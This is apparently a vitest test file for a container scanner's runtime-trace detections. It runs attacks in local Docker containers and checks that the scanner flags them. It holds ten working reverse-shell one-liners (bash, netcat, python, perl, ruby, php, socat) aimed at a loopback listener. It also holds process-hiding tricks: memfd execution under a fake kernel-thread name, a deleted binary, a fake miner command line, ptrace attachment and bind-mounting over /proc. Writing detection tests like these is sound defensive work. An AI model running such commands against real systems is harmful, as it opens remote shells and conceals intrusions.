import { createServer } from 'node:net'
import type { AddressInfo, Server } from 'node:net'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Report } from '@veinmind/report'
import { removeTemporary, requireTools, startDockerd, temporaryFolder } from '@veinmind/services'
import type { Dockerd } from '@veinmind/services'
import { buildImage, dockerArchive, layer } from '@veinmind/testing'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { runVeinmind } from './run-veinmind.ts'

// Attacks on containers of a real dockerd, on loopback; their programs are those of this machine, mounted read-only.
const folder = temporaryFolder('attacks')
let dockerd: Dockerd
let server: Server
let port = 0

beforeAll(async () => {
  const tools = await requireTools(['busybox', 'python3', 'ruby', 'php', 'socat'])
  const busybox = readFileSync(tools.busybox)
  const folders = ['proc', 'sys', 'dev', 'tmp', 'usr', 'opt', 'root', 'etc/alternatives']
  const image = buildImage(
    layer({
      'sbin/busybox': { content: busybox, mode: 0o755 },
      ...Object.fromEntries(['bin', 'lib', 'lib64'].map((name) => [name, { symlink: `usr/${name}` }])),
      ...Object.fromEntries(folders.map((name) => [name, { directory: true } as const])),
      'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n',
      'etc/group': 'root:x:0:\n',
      'usr/keep': '',
    }),
    {
      references: ['attacked:1'],
      config: { Env: ['PATH=/usr/bin:/usr/sbin'], Cmd: ['/sbin/busybox', 'sleep', '1000'] },
    },
  )
  writeFileSync(join(folder, 'image.tar'), dockerArchive(image))
  server = createServer((socket) => socket.on('error', () => undefined))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  port = (server.address() as AddressInfo).port
  dockerd = await startDockerd()
  await dockerd.docker(['load', '-i', join(folder, 'image.tar')])
}, 300_000)

afterAll(async () => {
  await dockerd?.stop()
  server?.close()
  removeTemporary(folder)
})

const start = (name: string, ...options: string[]): Promise<unknown> =>
  dockerd.docker([
    'run',
    '-d',
    '--name',
    name,
    '--network',
    'host',
    '-v',
    '/usr:/usr:ro',
    '-v',
    '/etc/alternatives:/etc/alternatives:ro',
    ...options,
    'attacked:1',
  ])

async function scan(...names: readonly string[]): Promise<Report> {
  const { stdout, stderr } = await runVeinmind(
    [
      'scan',
      'container',
      ...names,
      '--from',
      'docker',
      '--docker-host',
      dockerd.address,
      '--plugins',
      'trace',
      '-f',
      'json',
      '-o',
      '-',
    ],
    { cwd: folder },
  )
  if (!stdout.startsWith('{')) throw new Error(stderr)
  return JSON.parse(stdout) as Report
}

const SHELLS: Readonly<Record<string, (port: number) => string>> = {
  bash: (to) => `bash -i >& /dev/tcp/127.0.0.1/${to} 0>&1`,
  'netcat and a named pipe': (to) =>
    `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /sbin/busybox nc 127.0.0.1 ${to} > /tmp/f`,
  'netcat -e': (to) => `/sbin/busybox nc 127.0.0.1 ${to} -e /bin/sh`,
  python: (to) =>
    `/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",${to}));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
  'python and a terminal': (to) =>
    `/usr/bin/python3 -c 'import socket,pty,os;s=socket.socket();s.connect(("127.0.0.1",${to}));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")'`,
  perl: (to) =>
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")||6);connect(S,sockaddr_in(${to},inet_aton("127.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
  ruby: (to) => `ruby -rsocket -e 'f=TCPSocket.open("127.0.0.1",${to});exec("/bin/sh","-i",:in=>f,:out=>f,:err=>f)'`,
  php: (to) => `php -r '$s=fsockopen("127.0.0.1",${to});proc_open("/bin/sh -i",[$s,$s,$s],$p);sleep(1000);'`,
  socat: (to) => `socat TCP:127.0.0.1:${to} EXEC:/bin/sh`,
  'socat and a terminal': (to) => `socat TCP:127.0.0.1:${to} EXEC:/bin/sh,pty,stderr,setsid`,
}

test('ten reverse shells, each in a container of its own, with where it leads to', { timeout: 300_000 }, async () => {
  const kinds = Object.keys(SHELLS)
  let connections = 0
  server.on('connection', () => void (connections += 1))
  for (const [at, command] of Object.values(SHELLS).entries()) {
    await start(`shell${at}`)
    await dockerd.docker(['exec', '-d', `shell${at}`, 'bash', '-c', command(port)])
  }
  await vi.waitFor(() => expect(connections).toBe(kinds.length), { timeout: 20_000, interval: 200 })
  const names = kinds.map((_, at) => `shell${at}`)
  await vi.waitFor(
    async () => {
      const { findings } = await scan(...names)
      const found = findings.filter(({ rule }) => rule.id === 'TRACE-026')
      const told = kinds.map((kind, at) => {
        const own = found.filter(({ target }) => target.name === `shell${at}`)
        return [kind, own.map(({ evidence = '' }) => evidence.includes(`127.0.0.1:${port}`))]
      })
      expect(told).toEqual(kinds.map((kind) => [kind, [true]]))
    },
    { timeout: 60_000, interval: 500 },
  )
  await dockerd.docker(['rm', '-f', ...names])
})

test(
  'programs in memory, deleted, under a false name; a miner; a tracer; a hidden process',
  { timeout: 120_000 },
  async () => {
    await start('attacked', '--cap-add', 'SYS_ADMIN', '--cap-add', 'SYS_PTRACE', '--security-opt', 'seccomp=unconfined')
    const run = (command: string): Promise<unknown> => dockerd.docker(['exec', '-d', 'attacked', 'bash', '-c', command])
    await run(
      `/usr/bin/python3 -c 'import os;f=os.memfd_create("x");os.write(f,open("/usr/bin/sleep","rb").read());os.execve(f,["[kworker/0:1]","1000"],os.environ)'`,
    )
    await run('cp /usr/bin/sleep /opt/job; /opt/job 1001 & sleep 0.5; rm /opt/job; wait')
    await run('cp /usr/bin/sleep /tmp/java; exec -a "java -o stratum+tcp://pool.example:3333 -u x" /tmp/java 1002')
    await run(
      `sleep 1003 & /usr/bin/python3 -c 'import ctypes,time,sys;ctypes.CDLL(None).ptrace(16,int(sys.argv[1]),None,None);time.sleep(1000)' $!`,
    )
    await run('sleep 1004 & mkdir /tmp/empty; mount --bind /tmp/empty /proc/$!; wait')
    const wanted = [
      'TRACE-020',
      'TRACE-021',
      'TRACE-022',
      'TRACE-023',
      'TRACE-025',
      'TRACE-028',
      'TRACE-029',
      'TRACE-001',
    ]
    await vi.waitFor(
      async () => {
        const report = await scan('attacked')
        const ids = new Set(report.findings.map(({ rule }) => rule.id))
        expect(wanted.filter((id) => !ids.has(id))).toEqual([])
      },
      { timeout: 20_000, interval: 500 },
    )
    await dockerd.docker(['rm', '-f', 'attacked'])
  },
)

test(
  'work that is like an attack is not accused: exec, a script that is piped to a shell, a server that listens',
  { timeout: 120_000 },
  async () => {
    await start('quiet')
    await dockerd.docker(['exec', '-d', '-t', 'quiet', 'bash', '-i'])
    await dockerd.docker(['exec', '-d', 'quiet', 'bash', '-c', 'sleep 1000'])
    await dockerd.docker(['exec', '-d', 'quiet', 'bash', '-c', 'yes sleep | bash -e /dev/stdin'])
    await dockerd.docker([
      'exec',
      '-d',
      'quiet',
      '/usr/bin/python3',
      '-c',
      `import socket,subprocess;s=socket.create_connection(("127.0.0.1",${port}));subprocess.run(["sh","-c","sleep 1000"],stdin=subprocess.PIPE,stdout=subprocess.PIPE)`,
    ])
    await new Promise((resolve) => setTimeout(resolve, 1_000))
    const report = await scan('quiet')
    expect(report.targets).toHaveLength(1)
    expect(report.findings.map(({ rule, evidence }) => [rule.id, evidence])).toEqual([])
    await dockerd.docker(['rm', '-f', 'quiet'])
  },
)
